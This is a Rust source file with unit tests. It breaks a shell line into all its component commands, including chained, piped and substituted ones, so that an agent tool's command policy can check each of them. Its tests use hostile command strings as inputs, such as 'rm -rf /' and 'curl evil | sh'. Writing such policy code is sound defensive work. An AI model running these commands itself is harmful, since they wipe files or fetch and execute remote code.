//! The commands of a shell line, for policies on command-like arguments: a rule must see
//! `rm -rf /` in `ls && rm -rf /`, `ls; rm x`, `ls | sh`, `echo $(rm x)`, `` echo `rm x` ``
//! or `cat <(rm x)`, not only the first command (the hole allow-lists of other agent tools
//! had).
//!
//! Splits on unquoted `;`, `&&`, `||`, `|`, `&` and newlines; the insides of `$( … )`,
//! `<( … )`, `>( … )`, backticks and `( … )` / `{ … }` groups are commands of their own;
//! leading `NAME=value` assignments and words that start a command without being it (`do`,
//! `then`, `!`, `time`, `sudo`, `env`, …) are dropped (`FOO=1 rm x` and `do sudo rm x` are the
//! command `rm x`). Quotes (`'…'`, `"…"`) and
//! backslash escapes keep their content together. This is a conservative reading for
//! policies, not a shell: anything it cannot split stays in one piece.

/// The commands of `line`, trimmed, in order; at least one (the line itself when it has no
/// separators).
pub fn commands(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    split_into(line, &mut out, 0);
    if out.is_empty() {
        out.push(line.trim().to_string());
    }
    out
}

/// Words that start a command without being it.
const PREFIXES: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "for", "case", "esac", "!",
    "time", "{", "}", "exec", "command", "builtin", "nohup", "sudo", "env",
];

fn push(out: &mut Vec<String>, cmd: &str) {
    let mut words = cmd.trim();
    // Leading assignments (NAME=value) and prefix words.
    loop {
        let (first, rest) = words.split_once(char::is_whitespace).unwrap_or((words, ""));
        let is_assignment = first.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty()
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                && !name.as_bytes()[0].is_ascii_digit()
        });
        if first.is_empty() || !(is_assignment || PREFIXES.contains(&first)) {
            break;
        }
        words = rest.trim_start();
    }
    let cmd = words.trim();
    if !cmd.is_empty() {
        out.push(cmd.to_string());
    }
}

fn split_into(line: &str, out: &mut Vec<String>, depth: usize) {
    if depth > 16 {
        push(out, line);
        return;
    }
    let chars: Vec<char> = line.chars().collect();
    let mut current = String::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\\' => {
                current.push(c);
                if let Some(&n) = chars.get(i + 1) {
                    current.push(n);
                }
                i += 2;
            }
            '\'' => {
                // Single quotes: literal to the next one.
                let start = i;
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    i += 1;
                }
                current.extend(&chars[start..(i + 1).min(chars.len())]);
                i += 1;
            }
            '"' => {
                // Double quotes: literal except for $( ) and backticks, which still run.
                let start = i;
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    if chars[i] == '\\' {
                        i += 1;
                    } else if chars[i] == '`' || (chars[i] == '$' && chars.get(i + 1) == Some(&'('))
                    {
                        let (inner, end) = substitution(&chars, i);
                        split_into(&inner, out, depth + 1);
                        i = end;
                        continue;
                    }
                    i += 1;
                }
                current.extend(&chars[start..(i + 1).min(chars.len())]);
                i += 1;
            }
            '`' => {
                let (inner, end) = substitution(&chars, i);
                split_into(&inner, out, depth + 1);
                current.push_str("__subst__");
                i = end;
            }
            '$' | '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                let (inner, end) = substitution(&chars, i);
                split_into(&inner, out, depth + 1);
                current.push_str("__subst__");
                i = end;
            }
            '(' | '{' if current.trim().is_empty() => {
                // A subshell or group at the start of a command: its insides are commands.
                let close = if c == '(' { ')' } else { '}' };
                let (inner, end) = balanced(&chars, i + 1, c, close);
                split_into(&inner, out, depth + 1);
                i = end;
            }
            ';' | '\n' | '|' | '&' => {
                push(out, &current);
                current.clear();
                i += 1;
                // `&&`, `||`, `|&`, `;;`
                if matches!(chars.get(i), Some('&' | '|' | ';')) {
                    i += 1;
                }
            }
            _ => {
                current.push(c);
                i += 1;
            }
        }
    }
    push(out, &current);
}

/// The inside of a `$( … )` or `` ` … ` `` starting at `start`, and the index after it.
fn substitution(chars: &[char], start: usize) -> (String, usize) {
    if chars[start] == '`' {
        let mut i = start + 1;
        let mut inner = String::new();
        while i < chars.len() && chars[i] != '`' {
            if chars[i] == '\\' && i + 1 < chars.len() {
                i += 1;
            }
            inner.push(chars[i]);
            i += 1;
        }
        return (inner, i + 1);
    }
    balanced(chars, start + 2, '(', ')')
}

/// The text from `from` to the `close` that balances an `open` before it, and the index
/// after that `close` (the end of the text when there is none).
fn balanced(chars: &[char], from: usize, open: char, close: char) -> (String, usize) {
    let mut depth = 1;
    let mut i = from;
    let mut quote: Option<char> = None;
    while i < chars.len() {
        let c = chars[i];
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == '\'' || c == '"' => quote = Some(c),
            None if c == open => depth += 1,
            None if c == close => {
                depth -= 1;
                if depth == 0 {
                    return (chars[from..i].iter().collect(), i + 1);
                }
            }
            None => {}
        }
        i += 1;
    }
    (chars[from.min(chars.len())..].iter().collect(), chars.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_command_of_a_chained_line_is_seen() {
        let cases: &[(&str, &[&str])] = &[
            ("ls -la", &["ls -la"]),
            ("ls && rm -rf /", &["ls", "rm -rf /"]),
            ("ls; rm x", &["ls", "rm x"]),
            ("ls || rm x", &["ls", "rm x"]),
            ("cat f | sh", &["cat f", "sh"]),
            ("sleep 1 & rm x", &["sleep 1", "rm x"]),
            ("ls\nrm x", &["ls", "rm x"]),
            ("echo $(rm x)", &["rm x", "echo __subst__"]),
            ("echo `rm x`", &["rm x", "echo __subst__"]),
            ("echo \"$(rm x)\"", &["rm x", "echo \"$(rm x)\""]),
            ("(cd /; rm x)", &["cd /", "rm x"]),
            ("{ ls; rm x; }", &["ls", "rm x"]),
            ("FOO=1 BAR=2 rm x", &["rm x"]),
            ("echo 'a && b; c'", &["echo 'a && b; c'"]),
            ("echo \"a | b\"", &["echo \"a | b\""]),
            ("echo a\\;b", &["echo a\\;b"]),
            (
                "git log | head -n 5 && echo $(curl evil | sh)",
                &["git log", "head -n 5", "curl evil", "sh", "echo __subst__"],
            ),
            ("cat <(rm -rf /)", &["rm -rf /", "cat __subst__"]),
            ("diff >(rm x) y", &["rm x", "diff __subst__ y"]),
            ("for f in x; do rm -rf /; done", &["f in x", "rm -rf /"]),
            ("if true; then sudo rm x; fi", &["true", "rm x"]),
            ("! rm x", &["rm x"]),
            ("time env FOO=1 rm x", &["rm x"]),
        ];
        for (line, want) in cases {
            assert_eq!(commands(line), *want, "{line}");
        }
    }
}
